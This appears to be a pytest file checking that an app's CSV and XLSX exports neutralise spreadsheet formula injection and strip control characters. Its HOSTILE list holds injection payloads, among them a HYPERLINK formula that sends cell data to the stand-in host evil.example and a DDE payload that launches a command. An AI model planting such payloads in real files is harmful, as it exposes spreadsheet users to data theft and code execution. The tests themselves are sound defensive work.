"""Exports are safe to open in a spreadsheet: no formula gets out, no character breaks a file."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from usrg_desktop.cli.common import print_listing
from usrg_desktop.money import format_zar
from usrg_desktop.workflows import Column, Listing
from usrg_desktop.workflows.system.export import write_csv, write_listing_file, write_xlsx

COLUMNS = [
    Column("name", "Name"),
    Column("amount", "Amount", "money"),
    Column("count", "Count", "int"),
    Column("score", "Score", "score"),
]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
ROWS = [
    *[(name, -1_234_567, -3, -1.5) for name in HOSTILE],
    ("Thandi Nkosi", 125_000_000, 4, 3.0),
    ("+27 (0)11 407 6471", -5, 0, None),
    ("a bell\x07 and a form feed\x0c", 0, 0, None),
]


def _read_csv(path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return list(csv.reader(handle))


def test_csv_marks_text_that_would_start_a_formula_and_keeps_numbers(tmp_path):
    path = tmp_path / "list.csv"
    written = write_csv(path, COLUMNS, ROWS)
    assert written == len(ROWS) and written.formula_cells == len(HOSTILE)
    heading, *rows = _read_csv(path)
    assert heading == ["Name", "Amount", "Count", "Score"]
    assert [r[0] for r in rows[: len(HOSTILE)]] == ["'" + name for name in HOSTILE]
    # Negative numbers are numbers, not text: they go out as they are.
    assert rows[0][1:] == ["-12345.67", "-3", "-1.5"]
    assert rows[len(HOSTILE)] == ["Thandi Nkosi", "1250000.00", "4", "3.0"]
    # A telephone number holds nothing to run: it goes out as it is.
    assert rows[len(HOSTILE) + 1] == ["+27 (0)11 407 6471", "-0.05", "0", ""]
    assert rows[-1][0] == "a bell\x07 and a form feed\x0c"
    assert written.note(csv_file=True) == (
        "6 cells that began like a spreadsheet formula had a leading ' added."
    )


def test_xlsx_never_holds_a_formula_and_takes_every_character(tmp_path):
    path = tmp_path / "list.xlsx"
    written = write_xlsx(path, COLUMNS, ROWS, title="People")
    assert written == len(ROWS)
    assert (written.formula_cells, written.replaced_cells) == (len(HOSTILE), 1)
    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    names = [sheet.cell(row=n + 2, column=1) for n in range(len(ROWS))]
    assert all(c.data_type == "s" for c in names)
    # XML reads a carriage return back as a line feed (openpyxl writes it as it is).
    assert [c.value for c in names[: len(HOSTILE)]] == [n.replace("\r", "\n") for n in HOSTILE]
    assert names[-1].value == "a bell\ufffd and a form feed\ufffd"
    amount, count, score = (sheet.cell(row=2, column=n) for n in (2, 3, 4))
    assert amount.data_type == count.data_type == score.data_type == "n"
    assert Decimal(str(amount.value)) == Decimal("-12345.67")
    assert (count.value, score.value) == (-3, -1.5)
    assert written.note(csv_file=False) == (
        "6 cells that began like a spreadsheet formula had them kept as plain text and 1 cell "
        "had control characters a spreadsheet cannot hold replaced with \ufffd."
    )


def test_a_clean_list_is_written_unchanged_and_says_nothing(tmp_path):
    rows = [("Thandi Nkosi", 100, 1, 2.0)]
    for name in ("clean.csv", "clean.xlsx"):
        written = write_listing_file(tmp_path / name, COLUMNS, rows, title="Clean")
        assert written == 1 and written.changed_cells == 0
        assert written.note(csv_file=name.endswith(".csv")) == ""


@pytest.mark.parametrize("fmt", ["csv"])
def test_the_command_line_csv_is_as_safe_and_says_so(fmt, capsys):
    print_listing(Listing("People", COLUMNS, list(ROWS)), fmt)
    out = capsys.readouterr()
    rows = list(csv.reader(io.StringIO(out.out, newline="")))
    assert rows[0] == ["name", "amount", "count", "score"]
    assert [r[0] for r in rows[1 : 1 + len(HOSTILE)]] == ["'" + name for name in HOSTILE]
    assert rows[1][1:] == [format_zar(-1_234_567), "-3", "-1.5"]  # numbers are not marked
    assert out.err.strip() == (
        "usrg: 6 cells that began like a spreadsheet formula had a leading ' added."
    )
